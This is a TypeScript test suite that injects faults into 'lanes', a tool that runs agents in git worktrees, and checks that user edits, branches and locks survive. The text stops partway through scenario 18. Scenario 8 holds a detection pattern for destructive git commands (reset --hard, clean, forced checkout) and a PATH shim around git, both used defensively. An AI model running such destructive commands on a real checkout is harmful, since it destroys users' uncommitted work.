/**
 * faults.md, scenarios 1–30: each fault is caused for real (real git repositories in temp
 * folders, real processes, the real CLI or the core APIs), then the required behaviour and the
 * after-every-scenario invariants are checked (test/faults/helpers/invariants.ts).
 *
 * Scenarios 31–40 live in their own files.
 */
import * as assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { BusyError } from '../../src/core/errors';
import { commonDir as gitCommonDir } from '../../src/core/git/git';
import { listWorktrees } from '../../src/core/git/worktrees';
import type { Plan } from '../../src/core/plan/schema';
import { validatePlanText } from '../../src/core/plan/validate';
import { ApplyRefused, applyToCheckout, readJournal } from '../../src/core/reconcile/apply';
import { inspectRun } from '../../src/core/run/inspect';
import { Orchestrator, RunError } from '../../src/core/run/orchestrator';
import { sandboxAvailability } from '../../src/core/run/sandbox';
import { readState, runPaths, RunState } from '../../src/core/run/state';
import { LanesSession, NotApproved } from '../../src/core/session/session';
import { killTree } from '../../src/core/util/proc';
import { approvalKey, commandsOf } from '../../src/extension/approval';
import { lanes, lanesBackground, lanesProcess } from '../helpers/cli';
import { AGENT, agent, alive, readText, runPlan, statusOf, waitFor, writePlan, PlanLane } from '../helpers/engine';
import { createTempRepo, tempDir, TempRepo } from '../helpers/repo';
import { Baseline, baseline, checkInvariants, processesMentioning } from './helpers/invariants';

const ROOT = path.resolve(__dirname, '../..');
const CLI = path.join(ROOT, 'src/cli/index.ts');
const REAL_GIT = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();

const APP = Array.from({ length: 10 }, (_, i) => `line ${i + 1}`).join('\n') + '\n';

/** An agent (node -e) that marks lines 1 and 10 of src/app.ts and adds src/new.ts. */
const EDIT_APP = {
  command: [
    'node',
    '-e',
    "const fs=require('fs');const l=fs.readFileSync('src/app.ts','utf8').split('\\n');l[0]+=' (lane)';l[9]+=' (lane)';fs.writeFileSync('src/app.ts',l.join('\\n'));fs.writeFileSync('src/new.ts','export const n = 1;\\n')",
  ],
};

interface Ctx {
  repo: TempRepo;
  common: string;
  wt: string;
  /** Temp folders of this test (processes mentioning them are ours). */
  dirs: string[];
  scratch(): string;
  session(extra?: Partial<Parameters<typeof LanesSession.open>[0]>): Promise<LanesSession>;
  /** Record what must not change; call right before causing the fault. */
  baseline(userFiles?: string[]): Baseline;
}

async function ctx(files: Record<string, string> = { 'README.md': '# sample\n', 'src/app.ts': APP, 'notes.txt': 'user notes\n' }): Promise<Ctx> {
  const repo = createTempRepo(files);
  const wt = tempDir('lanes-wt-');
  const dirs = [repo.dir, wt];
  const c: Ctx = {
    repo,
    common: await gitCommonDir(repo.dir),
    wt,
    dirs,
    scratch: () => {
      const d = tempDir();
      dirs.push(d);
      return d;
    },
    session: (extra = {}) => LanesSession.open({ cwd: repo.dir, face: 'faults', runDefaults: () => ({ worktreeRoot: wt }), ...extra }),
    baseline: (userFiles = []) => baseline(repo.dir, userFiles, dirs.slice(1)),
  };
  return c;
}

/** Plan, run to the end through the application layer. */
async function runLanes(c: Ctx, defs: PlanLane[], extra: Record<string, unknown> = {}): Promise<{ s: LanesSession; state: RunState }> {
  writePlan(c.repo, defs, extra);
  const s = await c.session();
  const state = await (await s.run()).run();
  return { s, state };
}

/** Every file of the checkout (not .git) with its mode and bytes, plus git's view of it. */
function picture(repo: TempRepo): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (dir: string) => {
    for (const name of readdirSync(dir)) {
      if (name === '.git') continue;
      const abs = path.join(dir, name);
      const st = require('node:fs').lstatSync(abs);
      if (st.isDirectory()) walk(abs);
      else out[path.relative(repo.dir, abs)] = `${(st.mode & 0o777).toString(8)}:${readFileSync(abs).toString('base64')}`;
    }
  };
  walk(repo.dir);
  out['<status>'] = repo.git('status', '--porcelain=v1', '--untracked-files=all');
  out['<index>'] = repo.git('ls-files', '-s');
  out['<HEAD>'] = repo.git('rev-parse', 'HEAD') + ' ' + repo.git('symbolic-ref', '-q', 'HEAD');
  return out;
}

function refused(reason: ApplyRefused['reason'], files: string[]) {
  return (e: unknown) => {
    assert.ok(e instanceof ApplyRefused, String(e));
    assert.equal(e.reason, reason);
    assert.deepEqual(e.files, files);
    return true;
  };
}


const pidsOf = (file: string) => readFileSync(file, 'utf8').trim().split(' ').map(Number);

/** A git on PATH that logs "cwd<TAB>GIT_OPTIONAL_LOCKS<TAB>args" of every call, then runs the real one. */
function gitLogShim(c: Ctx): { log: string; dir: string } {
  const dir = tempDir('lanes-git-shim-');
  const log = path.join(c.scratch(), 'git.log');
  writeFileSync(path.join(dir, 'git'), `#!/bin/sh\nprintf '%s\\t%s\\t%s\\n' "$PWD" "\${GIT_OPTIONAL_LOCKS-}" "$*" >> ${JSON.stringify(log)}\nexec ${REAL_GIT} "$@"\n`, { mode: 0o755 });
  return { log, dir };
}

async function withPath<T>(dir: string, fn: () => Promise<T>): Promise<T> {
  const saved = process.env.PATH;
  process.env.PATH = `${dir}:${saved}`;
  try {
    return await fn();
  } finally {
    process.env.PATH = saved;
  }
}

describe('faults.md', function () {
  this.timeout(120000);

  // ——— Applying lane work to the user's checkout ———

  it('1. uncommitted edits in files the lanes do not touch are kept byte for byte', async () => {
    const c = await ctx();
    writePlan(c.repo, [{ id: 'a', agent: agent('write=src/new.ts:export const n = 1;', 'write=docs/a.md:# a') }]);
    const run = await lanes(c.repo.dir, ['run', '--worktree-root', c.wt]);
    assert.equal(run.code, 0, run.err + run.out);
    // Unstaged (with CRLF and no final newline), staged, untracked binary, an ignored file.
    c.repo.write('notes.txt', 'user notes\r\nmore, not saved to git');
    c.repo.write('README.md', '# sample, staged edit\n');
    c.repo.git('add', 'README.md');
    writeFileSync(path.join(c.repo.dir, 'scratch.bin'), Buffer.from([0, 1, 2, 255, 13, 10]));
    const b = c.baseline(['notes.txt', 'README.md', 'scratch.bin', 'src/app.ts']);
    const before = picture(c.repo);
    const r = await lanes(c.repo.dir, ['reconcile', '--apply', '--json']);
    assert.equal(r.code, 0, r.err + r.out);
    assert.equal(JSON.parse(r.out).apply.mode, 'three-way');
    assert.equal(readText(path.join(c.repo.dir, 'src/new.ts')), 'export const n = 1;\n', 'the lane\'s work arrived');
    const after = picture(c.repo);
    for (const f of ['notes.txt', 'README.md', 'scratch.bin', 'src/app.ts']) assert.equal(after[f], before[f], f);
    assert.match(c.repo.git('diff', '--cached', '--name-only'), /^README\.md$/m, 'the staged edit is still staged');
    await checkInvariants(b);
    const u = await lanes(c.repo.dir, ['undo']);
    assert.equal(u.code, 0, u.err);
    assert.deepEqual(picture(c.repo), before, 'undo restores the pre-apply state exactly');
    await checkInvariants(b);
  });

  it('2. uncommitted edits in a file a lane changes: refused with the list, nothing changed; markers only when asked', async () => {
    const c = await ctx();
    writePlan(c.repo, [{ id: 'a', agent: EDIT_APP }]);
    assert.equal((await lanes(c.repo.dir, ['run', '--worktree-root', c.wt])).code, 0);
    c.repo.write('src/app.ts', APP.replace('line 5', 'line 5 (mine, unsaved to git)'));
    const b = c.baseline(['src/app.ts', 'notes.txt']);
    const before = picture(c.repo);
    const r = await lanes(c.repo.dir, ['reconcile', '--apply', '--json']);
    assert.equal(r.code, 1);
    const j = JSON.parse(r.out);
    assert.equal(j.apply, undefined);
    assert.deepEqual(j.applyRefused.files, ['src/app.ts']);
    assert.equal(j.applyRefused.reason, 'dirtyOverlap');
    assert.match(j.applyRefused.message, /you have changed files the lanes also change: src\/app\.ts/);
    assert.deepEqual(picture(c.repo), before, 'nothing changed');
    await checkInvariants(b);
    // Asked for markers: a real three-way merge of the file, and the user's bytes kept in a ref.
    const m = await lanes(c.repo.dir, ['reconcile', '--apply', '--conflict-markers', '--json']);
    assert.equal(m.code, 0, m.err + m.out);
    const text = readText(path.join(c.repo.dir, 'src/app.ts'));
    assert.match(text, /^line 1 \(lane\)$/m);
    assert.match(text, /^line 5 \(mine, unsaved to git\)$/m);
    assert.match(text, /^line 10 \(lane\)$/m);
    await checkInvariants(b); // src/app.ts changed: its earlier bytes must be in refs/lanes/apply/…
  });

  it('3. files open with unsaved changes in an editor: refused or left out, never overwritten (editor part: test/integration)', async () => {
    // The VS Code side (asking to save, never touching the buffer) is covered by test/integration;
    // here the core: the face passes the unsaved paths, and the apply refuses or excludes them.
    const c = await ctx();
    const { s, state } = await runLanes(c, [{ id: 'a', agent: EDIT_APP }]);
    assert.equal(state.lanes[0]!.status, 'passed', state.lanes[0]!.reason);
    const b = c.baseline(['src/app.ts', 'notes.txt', 'README.md']);
    const before = picture(c.repo);
    await assert.rejects(s.apply(state.runId, { kind: 'files', lane: 'a', paths: ['src/app.ts', 'src/new.ts'] }, { unsavedPaths: ['src/app.ts'] }), refused('dirtyEditors', ['src/app.ts']));
    assert.deepEqual(picture(c.repo), before);
    // "Skip that file": every other file of the selection is applied, the unsaved one untouched.
    const r = await s.apply(state.runId, { kind: 'files', lane: 'a', paths: ['src/app.ts', 'src/new.ts'] }, { exclude: ['src/app.ts'] });
    assert.deepEqual(r.applied, ['src/new.ts']);
    assert.equal(readText(path.join(c.repo.dir, 'src/app.ts')), APP, 'the file open in the editor is untouched');
    assert.equal(c.repo.git('status', '--porcelain'), 'A  src/new.ts');
    await checkInvariants(b);
  });

  it('4. untracked files a lane would overwrite: refused with the list', async () => {
    const c = await ctx();
    writePlan(c.repo, [{ id: 'a', agent: agent('write=src/new.ts:lane version', 'write=docs/guide.md:lane guide') }]);
    assert.equal((await lanes(c.repo.dir, ['run', '--worktree-root', c.wt])).code, 0);
    c.repo.write('src/new.ts', 'mine, never committed\n');
    c.repo.write('docs/guide.md', 'my draft\n');
    const b = c.baseline(['src/new.ts', 'docs/guide.md']);
    const before = picture(c.repo);
    const r = await lanes(c.repo.dir, ['reconcile', '--apply', '--json']);
    assert.equal(r.code, 1);
    const j = JSON.parse(r.out).applyRefused;
    assert.equal(j.reason, 'untrackedCollision');
    assert.deepEqual(j.files, ['docs/guide.md', 'src/new.ts']);
    assert.match(j.message, /untracked files in your checkout would be overwritten: docs\/guide\.md, src\/new\.ts/);
    assert.deepEqual(picture(c.repo), before);
    await checkInvariants(b);
  });

  it('5. HEAD moved since the run (a commit, another branch): three-way merge against it, never a reset', async () => {
    const c = await ctx();
    const { s, state } = await runLanes(c, [{ id: 'a', agent: EDIT_APP }]);
    assert.equal(state.lanes[0]!.status, 'passed');
    // The user committed an edit in the middle of the file the lane changed at both ends …
    c.repo.write('src/app.ts', APP.replace('line 5', 'line 5 (user)'));
    const userCommit = c.repo.commitAll('user work');
    const b = c.baseline(['notes.txt']);
    const r = await s.apply(state.runId, { kind: 'files', lane: 'a', paths: ['src/app.ts', 'src/new.ts'] });
    assert.equal(r.mode, 'three-way');
    assert.deepEqual(readText(path.join(c.repo.dir, 'src/app.ts')).split('\n').filter((l) => l.includes('(')), ['line 1 (lane)', 'line 5 (user)', 'line 10 (lane)']);
    assert.equal(c.repo.git('rev-parse', 'HEAD'), userCommit, 'HEAD is not reset');
    await s.undo();
    // … then switched to another branch with other work.
    c.repo.git('checkout', '-q', '-b', 'feature');
    c.repo.write('src/app.ts', APP.replace('line 3', 'line 3 (feature)'));
    const feature = c.repo.commitAll('feature work');
    const r2 = await s.apply(state.runId, { kind: 'files', lane: 'a', paths: ['src/app.ts', 'src/new.ts'] });
    assert.equal(r2.mode, 'three-way');
    assert.match(readText(path.join(c.repo.dir, 'src/app.ts')), /line 3 \(feature\)[\s\S]*line 10 \(lane\)/);
    assert.equal(c.repo.git('symbolic-ref', 'HEAD'), 'refs/heads/feature');
    assert.equal(c.repo.git('rev-parse', 'HEAD'), feature);
    assert.equal(c.repo.git('rev-parse', 'main'), userCommit, 'the other branch is untouched');
    await checkInvariants(b);
  });

  it('6. merge conflicts: decided from git\'s exit status, shown with the files, the tree untouched', async () => {
    const c = await ctx();
    // Lane b's file *says* CONFLICT: a merge decided by reading git's output would misjudge it.
    const { s, state } = await runLanes(c, [{ id: 'a', agent: EDIT_APP }, { id: 'b', agent: agent('write=CONFLICT.txt:CONFLICT (content): Merge conflict in src/app.ts') }]);
    assert.deepEqual(statusOf(state), { a: 'passed', b: 'passed' });
    c.repo.write('src/app.ts', APP.replace('line 1\n', 'line 1 (user)\n'));
    c.repo.commitAll('user work that collides');
    const b = c.baseline(['src/app.ts', 'notes.txt']);
    const before = picture(c.repo);
    await assert.rejects(s.apply(state.runId, { kind: 'files', lane: 'a', paths: ['src/app.ts'] }), (e: unknown) => {
      refused('conflict', ['src/app.ts'])(e);
      assert.match((e as Error).message, /the lanes' work conflicts with your checkout in src\/app\.ts/);
      return true;
    });
    assert.deepEqual(picture(c.repo), before, 'the user\'s tree is untouched');
    const ok = await s.apply(state.runId, { kind: 'files', lane: 'b', paths: ['CONFLICT.txt'] });
    assert.deepEqual([ok.applied, ok.conflicted], [['CONFLICT.txt'], []], 'text that reads like a conflict is no conflict');
    await checkInvariants(b);
  });

  it('7. a crash halfway through an apply: rolled back from the journal on the next start; undo restores the pre-apply state', async () => {
    const c = await ctx();
    const { s, state } = await runLanes(c, [{ id: 'a', agent: EDIT_APP }]);
    const l = state.lanes[0]!;
    c.repo.write('notes.txt', 'dirty and unrelated\n');
    const b = c.baseline(['notes.txt', 'src/app.ts']);
    const before = picture(c.repo);
    // The apply stops dead after its deletions/first writes (as if its process died there).
    await assert.rejects(applyToCheckout({ repo: c.repo.dir, commonDir: c.common, base: l.base!, target: l.head!, crashAfter: 'deleted' }), /injected crash/);
    assert.equal((await readJournal(c.common, c.repo.dir))!.step, 'writing');
    // The next start of anything (here: lanes status) rolls it back.
    const st = await lanes(c.repo.dir, ['status']);
    assert.equal(st.code, 0, st.err);
    assert.match(st.err, /an apply into your checkout was interrupted; it has been rolled back/);
    assert.deepEqual(picture(c.repo), before);
    assert.equal((await readJournal(c.common, c.repo.dir))!.step, 'rolled-back');
    await checkInvariants(b);
    // A finished apply, then undo: exactly the pre-apply state.
    await s.apply(state.runId, { kind: 'files', lane: 'a', paths: ['src/app.ts', 'src/new.ts'] });
    assert.notDeepEqual(picture(c.repo), before);
    const u = await lanes(c.repo.dir, ['undo']);
    assert.equal(u.code, 0, u.err);
    assert.deepEqual(picture(c.repo), before);
    await checkInvariants(b);
  });

  it('8. never reset --hard, clean, checkout -f or a forced removal of anything the user or a lane owns', async () => {
    const c = await ctx();
    writeFileSync(path.join(c.repo.dir, '.gitignore'), '.env\nbuild/\n');
    c.repo.commitAll('ignore');
    writePlan(c.repo, [{ id: 'a', agent: EDIT_APP }, { id: 'b', agent: agent('write=b.txt:b') }]);
    const shim = gitLogShim(c);
    // Everything a user does in one go: run, reconcile --apply, undo, clean --force.
    c.repo.write('notes.txt', 'unrelated edit\n');
    c.repo.write('.env', 'TOKEN=secret\n');
    c.repo.write('build/out.bin', 'ignored build output\n');
    c.repo.write('untracked.txt', 'untracked\n');
    const b = c.baseline(['notes.txt', '.env', 'build/out.bin', 'untracked.txt']);
    let laneWts: string[] = [];
    await withPath(shim.dir, async () => {
      const r = await lanes(c.repo.dir, ['run', '--worktree-root', c.wt, '--json']);
      assert.equal(r.code, 0, r.err);
      laneWts = JSON.parse(r.out).lanes.map((l: { worktree: string }) => l.worktree);
      writeFileSync(path.join(laneWts[1]!, 'wip.txt'), 'uncommitted lane work\n');
      const a = await lanes(c.repo.dir, ['reconcile', '--apply']);
      assert.equal(a.code, 0, a.err + a.out);
      assert.equal((await lanes(c.repo.dir, ['undo'])).code, 0);
      const cl = await lanes(c.repo.dir, ['clean', '--force', '--json']);
      assert.equal(cl.code, 0, cl.err);
    });
    for (const f of ['notes.txt', '.env', 'build/out.bin', 'untracked.txt']) assert.ok(existsSync(path.join(c.repo.dir, f)), f);
    const owned = [c.repo.dir, ...laneWts];
    const forbidden = readText(shim.log)
      .split('\n')
      .filter(Boolean)
      .map((line) => line.split('\t'))
      .filter(([cwd, , args]) => owned.includes(cwd!) || owned.some((o) => args!.includes(`-C ${o}`)))
      .filter(([, , args]) => /(^| )reset .*--hard|(^| )clean( |$)|(^| )checkout (.* )?(-f|--force)( |$)|(^| )stash( |$)/.test(args!));
    assert.deepEqual(forbidden, []);
    // The lane's uncommitted work that the forced clean removed is in a snapshot ref.
    const snap = c.repo.git('for-each-ref', '--format=%(refname)', 'refs/lanes/snapshots/').split('\n').find((r) => r.includes('/b-worktree-'));
    assert.ok(snap, 'snapshot of the dirty lane worktree');
    assert.equal(c.repo.git('show', `${snap}:wip.txt`), 'uncommitted lane work');
    await checkInvariants(b);
  });

  // ——— Concurrency and git locks ———

  it('9. many lanes start at once: no config.lock failures, every branch with its worktree, none half made', async () => {
    const c = await ctx();
    for (let i = 0; i < 150; i++) c.repo.write(`files/f${i}.txt`, `file ${i}\n`);
    c.repo.commitAll('many files');
    const ids = Array.from({ length: 10 }, (_, i) => `l${i}`);
    writePlan(c.repo, ids.map((id) => ({ id, agent: agent(`write=${id}.txt:${id}`) })), { maxParallel: 10 });
    const b = c.baseline(['README.md']);
    const s = await c.session();
    const state = await (await s.run()).run();
    assert.ok(state.lanes.every((l) => l.status === 'passed'), JSON.stringify(state.lanes.map((l) => [l.id, l.status, l.reason])));
    const wts = await listWorktrees(c.repo.dir);
    for (const l of state.lanes) {
      const w = wts.find((x) => x.branch === l.branch);
      assert.ok(w && path.resolve(w.path) === path.resolve(l.worktree), `${l.branch} has its worktree`);
      // Complete: every file of the base, and only the lane's own change committed.
      assert.equal(c.repo.git('-C', l.worktree, 'status', '--porcelain'), '');
      assert.equal(c.repo.git('diff', '--name-status', l.base!, l.head!), `A\t${l.id}.txt`);
    }
    assert.deepEqual(readdirSync(c.common).filter((f) => f.endsWith('.lock')), []);
    assert.doesNotMatch(readText(path.join(c.common, 'config')), /\[branch/);
    await checkInvariants(b);
  });

  it('10. index.lock held by another process: retried with backoff; read-only polls take no lock (GIT_OPTIONAL_LOCKS=0)', async () => {
    const c = await ctx();
    const shim = gitLogShim(c);
    writePlan(c.repo, [{ id: 'a', agent: agent('sleep=500', 'write=src/new.ts:new') }]);
    const b = c.baseline(['notes.txt']);
    const lock = path.join(c.repo.dir, '.git', 'index.lock');
    let runId = '';
    await withPath(shim.dir, async () => {
      const s = await c.session();
      const state = await (await s.run()).run();
      runId = state.runId;
      assert.equal(state.lanes[0]!.status, 'passed');
      // "VS Code's git" holds index.lock for a moment while the apply starts.
      const holder = spawn(process.execPath, ['-e', `const fs=require('fs');fs.writeFileSync(${JSON.stringify(lock)},'');setTimeout(()=>fs.unlinkSync(${JSON.stringify(lock)}),250)`], { stdio: 'ignore' });
      const gone = new Promise((r) => holder.on('exit', r));
      await waitFor(() => existsSync(lock), 5000, 'the lock');
      const r = await s.apply(state.runId, { kind: 'files', lane: 'a', paths: ['src/new.ts'] });
      assert.deepEqual(r.applied, ['src/new.ts']);
      await gone;
      // A lock held for good: read-only commands still work.
      writeFileSync(lock, '');
      try {
        const st = await lanes(c.repo.dir, ['status']);
        assert.equal(st.code, 0, st.err);
        const radar = await s.radar(state.runId);
        assert.equal(radar.pairs.length, 0);
      } finally {
        rmSync(lock, { force: true });
      }
    });
    // Every status the engine ran in the user's checkout (its guard polls) took no optional lock.
    const polls = readText(shim.log)
      .split('\n')
      .map((l) => l.split('\t'))
      .filter(([cwd, , args]) => cwd === c.repo.dir && /^status /.test(args ?? ''));
    assert.ok(polls.length >= 2, `guard polls seen: ${polls.length}`);
    for (const p of polls) assert.equal(p[1], '0', `git ${p[2]} without GIT_OPTIONAL_LOCKS=0`);
    assert.ok(runId);
    await checkInvariants(b);
  });

  it('11. a stale lock left by a crash: reported with the file and what to do; not removed behind the user\'s back', async () => {
    const c = await ctx();
    writePlan(c.repo, [{ id: 'a', agent: agent('write=src/new.ts:new') }]);
    assert.equal((await lanes(c.repo.dir, ['run', '--worktree-root', c.wt])).code, 0);
    const b = c.baseline(['notes.txt', 'src/app.ts']);
    const before = picture(c.repo);
    const lock = path.join(c.repo.dir, '.git', 'index.lock');
    writeFileSync(lock, ''); // a crashed git left it; no git process runs
    try {
      const r = await lanes(c.repo.dir, ['reconcile', '--apply']);
      assert.equal(r.code, 1);
      // Named, with the next step (the wording depends on whether a git process runs right now).
      assert.match(r.err, /could not take a lock \(.*\.git\/index\.lock\): .*remove .*\.git\/index\.lock (if no git process is running|and try again)/);
      assert.doesNotMatch(r.err, /merge conflicts|conflicts with your checkout/);
      assert.ok(existsSync(lock), 'the lock is the user\'s to remove');
      assert.deepEqual(picture(c.repo), before);
    } finally {
      rmSync(lock, { force: true });
    }
    await checkInvariants(b);
  });

  it('12. a lane branch moved or rewritten since it was recorded: detected and never merged blind', async () => {
    const c = await ctx();
    const { s, state } = await runLanes(c, [{ id: 'moved', agent: agent('write=m.txt:m') }, { id: 'rewritten', agent: agent('write=r.txt:r') }, { id: 'fine', agent: agent('write=f.txt:f') }]);
    const [moved, rewritten] = state.lanes;
    // Someone committed on top of one lane branch and rewrote the other (amend).
    writeFileSync(path.join(moved!.worktree, 'later.txt'), 'later\n');
    c.repo.git('-C', moved!.worktree, 'add', '-A');
    c.repo.git('-C', moved!.worktree, 'commit', '-qm', 'a commit nobody recorded');
    c.repo.git('-C', rewritten!.worktree, 'commit', '-q', '--amend', '-m', 'rewritten');
    const b = c.baseline(['notes.txt']);
    const q = await s.mergeQueue(state.runId, { sendBack: false });
    assert.deepEqual(q.merged, ['fine']);
    const held = Object.fromEntries(q.held.map((h) => [h.lane, h.reason]));
    assert.match(held.moved!, /^branch lanes\/\S+\/moved moved since the lane finished \(recorded [0-9a-f]{10}, now [0-9a-f]{10}\)/);
    assert.match(held.rewritten!, /^branch lanes\/\S+\/rewritten moved since the lane finished/);
    for (const f of ['later.txt', 'r.txt']) assert.throws(() => c.repo.git('cat-file', '-e', `${q.head}:${f}`), `${f} was not merged`);
    // The old head of the rewritten branch: the test (standing in for the user) dropped it.
    await checkInvariants(b, { exceptHeads: [rewritten!.head!] });
  });

  // ——— Worktree lifecycle ———

  it('13. a lane worktree deleted by hand: reported, the branch is the truth, never silently recreated', async () => {
    const c = await ctx();
    // The lane committed work, but its verify failed: "lanes run --resume" runs it again.
    const { state } = await runLanes(c, [{ id: 'a', agent: agent('write=x.txt:x'), verify: 'test -f never-there' }]);
    const l = state.lanes[0]!;
    assert.equal(l.status, 'failed');
    rmSync(l.worktree, { recursive: true, force: true });
    const b = c.baseline(['notes.txt']);
    const r = await lanes(c.repo.dir, ['run', '--resume', '--json']);
    assert.equal(r.code, 1, r.err);
    const after = await readState(c.common, state.runId);
    assert.equal(after.lanes[0]!.status, 'failed');
    assert.match(after.lanes[0]!.reason!, /the worktree folder .* was deleted; its branch still holds the lane's commits/);
    assert.equal(existsSync(l.worktree), false, 'not recreated from the base');
    assert.equal(c.repo.git('rev-parse', l.branch), l.head, 'the branch is untouched');
    const st = await lanes(c.repo.dir, ['status', '--json']);
    assert.match(JSON.parse(st.out).run.lanes[0].reason, /was deleted; its branch still holds/);
    await checkInvariants(b, { extraHeads: [l.head!] });
  });

  it('14. cleanup of dirty worktrees and unmerged branches: refused unless forced; forced, a snapshot ref first', async () => {
    const c = await ctx();
    const { state } = await runLanes(c, [{ id: 'dirty', agent: agent('write=d.txt:d') }, { id: 'unmerged', agent: agent('write=u.txt:u') }]);
    const [dirty, unmerged] = state.lanes;
    writeFileSync(path.join(dirty!.worktree, 'wip.txt'), 'not committed\n');
    const b = c.baseline(['notes.txt']);
    const first = await lanes(c.repo.dir, ['clean', '--json']);
    assert.equal(first.code, 0, first.err);
    const acts = JSON.parse(first.out).actions as { lane: string; action: string; detail: string }[];
    assert.match(acts.find((a) => a.lane === 'dirty')!.detail, /1 uncommitted change\(s\); use --force/);
    assert.equal(acts.find((a) => a.lane === 'dirty')!.action, 'kept');
    assert.equal(acts.find((a) => a.lane === 'unmerged')!.action, 'kept');
    assert.match(acts.find((a) => a.lane === 'unmerged')!.detail, /1 commit\(s\) not merged anywhere/);
    assert.equal(readText(path.join(dirty!.worktree, 'wip.txt')), 'not committed\n');
    assert.equal(c.repo.git('rev-parse', unmerged!.branch), unmerged!.head);
    const forced = await lanes(c.repo.dir, ['clean', '--force', '--json']);
    assert.equal(forced.code, 0, forced.err);
    const snaps = c.repo.git('for-each-ref', '--format=%(refname) %(objectname)', 'refs/lanes/snapshots/').split('\n');
    const wip = snaps.find((x) => x.includes('/dirty-worktree-'))!.split(' ')[0]!;
    assert.equal(c.repo.git('show', `${wip}:wip.txt`), 'not committed');
    assert.ok(snaps.some((x) => x.includes('/unmerged-branch-') && x.endsWith(unmerged!.head!)));
    assert.equal(existsSync(dirty!.worktree), false);
    assert.equal(c.repo.git('branch', '--list', unmerged!.branch), '');
    await checkInvariants(b);
  });

  it('15. cleanup while the lane\'s agent still runs: skipped while its run is active; after a crash, the tree is stopped first', async () => {
    const c = await ctx();
    const pids = path.join(c.scratch(), 'pids');
    writePlan(c.repo, [{ id: 'a', agent: agent(`hang=${pids}`) }], { isolation: 'none' });
    const b = c.baseline(['notes.txt']);
    const run = lanesBackground(c.repo.dir, ['run', '--worktree-root', c.wt]);
    try {
      await waitFor(() => existsSync(pids) && readText(pids).includes(' '), 30000, 'the agent to start');
      const [agentPid, childPid] = pidsOf(pids);
      const busy = await lanes(c.repo.dir, ['clean', '--force', '--json']);
      assert.equal(JSON.parse(busy.out).actions[0].action, 'skipped');
      assert.ok(alive(agentPid!) && alive(childPid!), 'nothing stopped while its run is active');
      killTree(run.child.pid!, 'SIGKILL'); // the orchestrator dies; the agent's group lives on
      await run.exited;
      assert.ok(alive(agentPid!), 'orphaned agent');
      const wt = (await readState(c.common, (await (await c.session()).latestRunId())!)).lanes[0]!.worktree;
      const r = await lanes(c.repo.dir, ['clean', '--force', '--json']);
      assert.equal(r.code, 0, r.err);
      const acts = JSON.parse(r.out).actions as { action: string; detail: string }[];
      assert.match(acts[0]!.detail, /^stopped its agent \(pid \d+\)$/, 'stopping comes first');
      assert.ok(!alive(agentPid!) && !alive(childPid!), 'the whole tree is stopped');
      assert.equal(existsSync(wt), false);
    } finally {
      run.child.kill('SIGKILL');
      for (const p of existsSync(pids) ? pidsOf(pids) : []) killTree(p, 'SIGKILL');
    }
    await checkInvariants(b);
  });

  it('16. git gc / worktree prune while a run is active: the worktrees are locked, nothing lost', async () => {
    const c = await ctx();
    writePlan(c.repo, [{ id: 'a', agent: agent('write=one.txt:1', 'commit=first', 'sleep=1500', 'write=two.txt:2') }]);
    const b = c.baseline(['notes.txt']);
    let during: { locked: boolean } | undefined;
    const { state } = await runPlan(c.repo, { worktreeRoot: c.wt }, (o) => {
      o.onEvent((e) => {
        if (e.type === 'lane-status' && e.status === 'running' && e.reason?.startsWith('attempt') && !during) {
          during = { locked: false };
          void (async () => {
            await new Promise((r) => setTimeout(r, 300));
            execFileSync('git', ['worktree', 'prune', '--expire=now'], { cwd: c.repo.dir });
            execFileSync('git', ['gc', '--prune=now', '--quiet'], { cwd: c.repo.dir });
            during!.locked = (await listWorktrees(c.repo.dir)).some((w) => w.branch?.endsWith('/a') && w.locked);
          })();
        }
      });
    });
    assert.ok(during?.locked, 'the lane\'s worktree was locked while in use');
    assert.equal(state.lanes[0]!.status, 'passed', state.lanes[0]!.reason);
    assert.equal(c.repo.git('show', `${state.lanes[0]!.head}:one.txt`), '1');
    assert.equal(c.repo.git('show', `${state.lanes[0]!.head}:two.txt`), '2');
    assert.ok(existsSync(state.lanes[0]!.worktree));
    await checkInvariants(b);
  });

  it('17. submodules and Git LFS: detected and warned about, not corrupted', async () => {
    const lib = createTempRepo({ 'lib.txt': 'library\n' });
    const c = await ctx();
    c.repo.git('-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', lib.dir, 'lib');
    c.repo.write('.gitattributes', '*.bin filter=lfs diff=lfs merge=lfs -text\n');
    c.repo.write('data.bin', 'version https://git-lfs.github.com/spec/v1\noid sha256:0000\nsize 4\n');
    c.repo.commitAll('submodule and lfs');
    writePlan(c.repo, [{ id: 'a', agent: agent('write=x.txt:x') }]);
    const b = c.baseline(['lib/lib.txt', 'data.bin', '.gitmodules']);
    const gitlink = c.repo.git('rev-parse', 'HEAD:lib');
    const s = await c.session();
    const state = await (await s.run()).run();
    assert.equal(state.lanes[0]!.status, 'passed', state.lanes[0]!.reason);
    assert.ok(state.warnings.some((w) => /submodules/.test(w)), JSON.stringify(state.warnings));
    assert.ok(state.warnings.some((w) => /Git LFS/.test(w)), JSON.stringify(state.warnings));
    const l = state.lanes[0]!;
    assert.equal(c.repo.git('diff', '--name-status', l.base!, l.head!), 'A\tx.txt', 'the lane did not touch the submodule or the LFS file');
    assert.equal(c.repo.git('rev-parse', `${l.head}:lib`), gitlink);
    const r = await s.apply(state.runId, { kind: 'files', lane: 'a', paths: ['x.txt'] });
    assert.deepEqual(r.applied, ['x.txt']);
    assert.equal(readText(path.join(c.repo.dir, 'lib/lib.txt')), 'library\n');
    assert.match(c.repo.git('submodule', 'status'), new RegExp(`^ ${gitlink} lib`));
    await checkInvariants(b);
  });

  // ——— Processes and recovery ———

  it('18. the extension host crashes with lanes running: agents die with it, the run is found again and resumes', async () => {
    const c = await ctx();
    const pids = path.join(c.scratch(), 'pids');
    writePlan(c.repo, [
      { id: 'quick', agent: agent('write=q.txt:q') },
      { id: 'slow', agent: { command: ['sh', '-c', `if [ "$LANES_ATTEMPT" = 1 ]; then exec node "$0" hang=${pids}; else exec node "$0" write=s.txt:s; fi`, AGENT] } },
    ], { isolation: 'none' });
    const b = c.baseline(['notes.txt']);
    // A stand-in for the extension host: the session as VS Code opens it (agents die with it).
    const host = path.join(c.scratch(), 'host.ts');
    writeFileSync(
      host,
      `import { LanesSession } from ${JSON.stringify(path.join(ROOT, 'src/core/session/session'))};\n` +
